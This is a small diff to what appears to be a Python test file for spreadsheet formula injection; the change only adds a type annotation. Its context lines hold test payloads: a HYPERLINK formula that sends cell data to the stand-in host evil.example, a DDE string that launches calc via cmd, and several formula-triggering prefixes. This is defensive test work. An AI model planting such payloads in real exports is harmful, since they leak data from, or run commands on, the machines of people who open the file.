@@ -36,7 +36,7 @@ from tests.support.responses import body_of
 ROOT = Path(__file__).resolve().parents[2]
 HYPERLINK = '=HYPERLINK("https://evil.example/?q="&A1,"Voir le bulletin")'
 # One hostile name per start a spreadsheet runs (the class's name is one too).
-NAMES = {
+NAMES: dict[str, Any] = {
     "student": HYPERLINK,
     "other": "@SUM(1+1)*cmd|' /C calc'!A0",
     "extra": ["+33 6 12 34 56 78", "-2+3", "\t=1+1", "\r=1+1", "\n=1+1"],
